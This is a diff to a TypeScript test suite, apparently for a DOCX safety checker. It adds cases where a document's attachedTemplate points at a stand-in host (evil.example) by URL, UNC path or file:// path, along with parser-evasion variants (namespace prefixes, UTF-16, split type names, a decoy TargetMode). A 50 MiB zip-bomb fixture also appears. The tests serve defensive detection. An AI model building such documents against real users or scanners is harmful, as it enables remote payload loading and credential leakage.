@@ -39,6 +39,13 @@ function related(type: string, target: string, name = 'word/_rels/settings.xml.r
   return { name, content };
 }
 
+const template = related('attachedTemplate', 'https://evil.example/a.dotm');
+
+/** The same relationships, written in another way. */
+function rewritten(part: ZipEntry, rewrite: (xml: string) => Buffer | string): ZipEntry {
+  return { ...part, content: rewrite(String(part.content)) };
+}
+
 const mebibyte = 1024 * 1024;
 const zeros = deflateRawSync(Buffer.alloc(50 * mebibyte));
 const documentType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
@@ -73,7 +80,13 @@ describe('a DOCX', () => {
     ['with a password', compoundFile({ EncryptionInfo: Buffer.alloc(8), EncryptedPackage: Buffer.alloc(64) }), locked],
     ['with a password on its entries', docx({ name: 'word/styles.xml', content: 'x', encrypted: true }), locked],
 
-    ['with a template on the web', docx(related('attachedTemplate', 'https://evil.example/a.dotm')), remote],
+    ['with a template on the web', docx(template), remote],
+    ['with a template on the web, prefixed', docx(rewritten(template, (xml) => xml.replace('<R', '<é:R').replace('<R', '<é:R'))), remote],
+    ['with a template on the web, in UTF-16', docx(rewritten(template, (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le'))), remote],
+    ['with a template on the web, in UTF-16 without a mark', docx(rewritten(template, (xml) => Buffer.from(xml, 'utf16le'))), damaged],
+    ['with a template on the web, its type on two lines', docx(related('attachedTemplate&#10;', 'https://evil.example/a.dotm')), remote],
+    ['with a template on the web, and the opposite in the name of a namespace', docx(rewritten(template, (xml) =>
+      xml.replace('/></', ` xmlns:é="TargetMode='Internal'"/></`))), remote],
     ['with a template on a server', docx(related('attachedTemplate', '\\\\evil.example\\share\\a.dotm')), remote],
     ['with a template on a server, as a URL', docx(related('attachedTemplate', 'file://evil.example/a.dotm')), remote],
     ['with a template on a server, as a path in a URL', docx(related('attachedTemplate', 'file:///%5C%5Cevil.example/a.dotm')), remote],
